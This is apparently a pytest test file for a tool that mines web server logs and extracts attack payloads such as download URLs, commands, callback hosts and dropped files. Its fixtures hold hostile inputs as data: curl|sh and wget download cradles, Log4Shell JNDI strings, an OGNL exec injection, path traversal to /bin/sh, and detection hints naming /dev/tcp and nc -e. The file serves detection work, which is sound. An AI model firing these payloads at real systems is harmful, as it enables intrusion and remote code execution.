"""The ``payload.*`` columns: filled for attacks in whatever way a log wrote them, null for ordinary rows."""

from __future__ import annotations

import base64
from collections.abc import Callable, Sequence
from urllib.parse import quote

import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kanaria.core import schema
from kanaria.core.prefilter import Pattern, Prefilter
from kanaria.mining import payload
from kanaria.mining.payload import COLUMNS, enrich
from kanaria.mining.payload_words import HINTS, WORDS, candidates, hidden
from kanaria.mining.request_values import Value

CRADLE = "curl -s http://198.51.100.9/x.sh|sh"
ATTACK = "/cgi-bin/a?c=" + quote(CRADLE)


def apache(url: str, agent: str = "-") -> bytes:
    text = f'203.0.113.7 - - [02/Jan/2022:14:07:06 +0000] "GET {url} HTTP/1.1" 404 196 "-" "{agent}"'
    return text.encode("unicode_escape")


def one(**row: object) -> dict[str, str | None]:
    table = enrich(schema.from_rows("http", [row]))
    return {name: table[name][0].as_py() for name in COLUMNS}


def test_an_attack_in_an_ordinary_line_fills_every_column() -> None:
    url = "/?c=" + quote("wget http://198.51.100.9/a -O /tmp/a;sh /tmp/a;nslookup x.oast.fun")
    assert one(url=url, raw=apache(url)) == {
        "payload.decoded": "/?c=wget http://198.51.100.9/a -O /tmp/a;sh /tmp/a;nslookup x.oast.fun",
        "payload.download_url": "http://198.51.100.9/a",
        "payload.command": "wget http://198.51.100.9/a -O /tmp/a;sh /tmp/a;nslookup x.oast.fun",
        "payload.callback": "x.oast.fun",
        "payload.dropped": "/tmp/a",
        "payload.does": "deliver fetch run save",
        "payload.aim": None,
        "payload.action": None,
    }


def test_rows_keep_their_order_and_ordinary_ones_are_null() -> None:
    rows = [
        {"url": "/", "raw": apache("/")},
        {"url": ATTACK, "raw": apache(ATTACK)},
        {"url": "/b", "raw": apache("/b")},
    ]
    table = enrich(schema.from_rows("http", rows))
    assert [value is None for value in table["payload.decoded"].to_pylist()] == [True, False, True]
    assert table.column_names[-len(COLUMNS) :] == list(COLUMNS)
    assert all(table.schema.field(name).type == pa.string() for name in COLUMNS)


def test_an_empty_table_gets_the_columns_too() -> None:
    assert enrich(schema.empty("http")).column_names[-len(COLUMNS) :] == list(COLUMNS)


def test_a_table_of_several_chunks_is_read_whole() -> None:
    attack = schema.from_rows("http", [{"url": ATTACK, "raw": apache(ATTACK)}])
    plain = schema.from_rows("http", [{"url": "/", "raw": apache("/")}] * 3)
    decoded = enrich(pa.concat_tables([plain, attack, plain.slice(1), attack]))["payload.decoded"].to_pylist()
    assert [index for index, value in enumerate(decoded) if value] == [3, 6]


WRITTEN: dict[str, Callable[[str], bytes]] = {
    "as sent": lambda text: text.encode(),
    "apache": lambda text: text.replace("\\", "\\\\").replace('"', '\\"').encode(),
    "nginx": lambda text: text.replace("\\", "\\x5C").replace('"', "\\x22").encode(),
    "json": lambda text: text.replace("\\", "\\\\").replace('"', '\\"').replace("/", "\\/").encode(),
}


@pytest.mark.parametrize("log", WRITTEN)
@pytest.mark.parametrize(
    "url",
    [
        ATTACK,
        "/?c=" + quote(quote(CRADLE)),
        "/?c=" + "".join(f"%{ord(char):02x}" for char in CRADLE),
        "/?c=echo+" + base64.b64encode(CRADLE.encode()).decode() + "|base64+-d|sh",
        "/?c=" + base64.b64encode(CRADLE.encode()).decode(),
        "/?c=c'u'rl${IFS}http://198.51.100.9/x.sh|sh",
        "/?x=${jndi:ldap://198.51.100.7/a}",
        "/?x=${${lower:j}ndi:ldap://198.51.100.7/a}",
        "/?x=%24%7B%24%7B::-j%7Dndi:ldap://198.51.100.7/a%7D",
        "/$%7B(%23a=@java.lang.Runtime@getRuntime().exec(%22id%22))%7D/",
        "/cgi-bin/.%2e/.%2e/bin/sh",
        "/cgi-bin/.%%32%65/.%%32%65/bin/sh",
        "/cgi-bin/%252e%252e/%252e%252e/bin/sh",
        "/setup/setup-s/%u002e%u002e/%u002e%u002e/log.jsp",
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        "/%76endor/phpunit/%65val-stdin.php",
    ],
)
def test_the_way_a_log_escapes_hides_nothing(url: str, log: str) -> None:
    assert one(url=url, raw=WRITTEN[log](url))["payload.decoded"] is not None


@pytest.mark.parametrize("column", ["url", "user_agent", "request_body", "request"])
def test_records_without_a_raw_line_are_read_by_their_parts(column: str) -> None:
    value: object = CRADLE.encode() if column in {"request_body", "request"} else CRADLE
    assert one(**{column: value})["payload.command"] == CRADLE


def test_a_referrer_counts_only_when_it_carries_an_injection_itself() -> None:
    search = "https://search.example/?q=curl+-s+https://get.example/x+|+sh"
    assert one(url="/", referer=search, raw=apache("/", search))["payload.decoded"] is None
    assert one(url="/", referer="${jndi:ldap://198.51.100.7/a}")["payload.callback"] == "198.51.100.7"


def test_a_script_put_on_the_server_is_a_dropped_file() -> None:
    assert one(method="PUT", url="/a/x.jsp/", raw=b'"PUT /a/x.jsp/ HTTP/1.1" 201')["payload.dropped"] == "a/x.jsp"
    assert one(method="PUT", url="/a/x.jpg", raw=b'"PUT /a/x.jpg HTTP/1.1" 201')["payload.decoded"] is None


@pytest.mark.parametrize(
    "url",
    [
        "/search?q=%E3%82%AB%E3%83%8A%E3%83%AA%E3%82%A2&page=2",
        "/redirect?to=https%3A%2F%2Fexample.com%2Fa%3Fb%3Dc%26d%3D%5B1%5D",
        "/login?next=%252Faccount%252Fsettings",
        "/a?utm_source=newsletter&utm_campaign=spring+sale+%28100%25+off%29",
        "/wp-json/oembed/1.0/embed?url=https%3A%2F%2Fexample.org%2F",
        "/images/canary_(bird).jpg",
        "/api/v1/users?filter={%22name%22:%22a%22}",
    ],
)
@pytest.mark.parametrize(
    "agent", ["curl/8.5.0", "Wget/1.21.4", "python-requests/2.32", "Mozilla/5.0 (X11; Linux x86_64)"]
)
def test_ordinary_requests_stay_null(url: str, agent: str) -> None:
    assert one(url=url, user_agent=agent, raw=apache(url, agent))["payload.decoded"] is None


@settings(max_examples=60, deadline=None)
@given(st.binary(max_size=200), st.text(max_size=80), st.binary(max_size=80))
def test_any_bytes_are_read_without_an_error(raw: bytes, url: str, body: bytes) -> None:
    row = {"raw": raw + b" curl ", "url": url.encode("utf-8", "replace").decode(), "request_body": body, "request": raw}
    assert enrich(schema.from_rows("http", [row])).num_rows == 1


@settings(max_examples=30, deadline=None)
@given(st.binary(max_size=12), st.sampled_from([b"curl ", b"wget ", b"/bin/", b"java.lang", b"<?php"]))
def test_a_word_is_found_in_base64_at_any_alignment(before: bytes, word: bytes) -> None:
    encoded = base64.b64encode(before + word + b"after")
    assert any(spelling in encoded for spelling in hidden(word))


def test_every_expression_finds_something_of_its_own() -> None:
    examples = ("Next-Action", "pаss", "a\u200bb", "%252e", "%%", "${", "r''l", "w'g", "'+'", "chr(", "PUT /a.jsp", "| sh ", "/dev/tcp/", "??", "/b?n/", "/b*n/", "/us%2a/",
                "bin/c*", "c[u]r", "perl -e", ";nc -e", "nohup x", "from program", " -enc SQBFAFgAIAAoAE4A")  # fmt: skip
    for expression, text in zip(HINTS, examples, strict=True):
        assert Prefilter([Pattern(expression)]).scan(text.encode()), (expression, text)
    assert len(set(WORDS)) == len(WORDS)


@settings(max_examples=100, deadline=None)
@given(
    st.from_regex(r"(/|%2f)[bu][a-z]{0,2}(\*|%2a)[a-z]{0,2}(/|%2f)", fullmatch=True)
    | st.from_regex(r"([;|`]|%3b|%7c|%60|%26%26|&&)(\+|%20){0,2}(id|rm|ls|dd|export)([ +/;|&]|%20)", fullmatch=True)
)
def test_folders_left_to_the_shell_and_separated_commands_are_looked_at(text: str) -> None:
    raw = pa.array([f'203.0.113.7 - - "GET /a?x={text}y HTTP/1.1" 200 5'.encode()])
    assert candidates().rows(raw)[0].tolist()


def test_the_three_spellings_of_a_word_in_base64() -> None:
    assert hidden(b"curl ") == (b"Y3VybC", b"N1cmwg", b"jdXJsI")


def test_requests_that_differ_in_time_only_are_read_once(monkeypatch: pytest.MonkeyPatch) -> None:
    read: list[int] = []
    real = payload._read

    def noted(records: list[dict[str, object]], beside: Sequence[Sequence[Value]]) -> dict[int, dict[str, str | None]]:
        read.append(len(records))
        return real(records, beside)

    monkeypatch.setattr(payload, "_read", noted)
    urls = [ATTACK, "/plain%2dpage", ATTACK, "/cgi-bin/b?c=" + quote(CRADLE)] * 5
    rows = [{"url": url, "raw": apache(url).replace(b"14:07", b"14:%02d" % n)} for n, url in enumerate(urls)]
    table = enrich(schema.from_rows("http", rows))
    assert read == [2]  # of the two attacks; the page is not looked at
    alone = [one(**row) for row in rows]
    assert [{name: table[name][row].as_py() for name in COLUMNS} for row in range(len(rows))] == alone
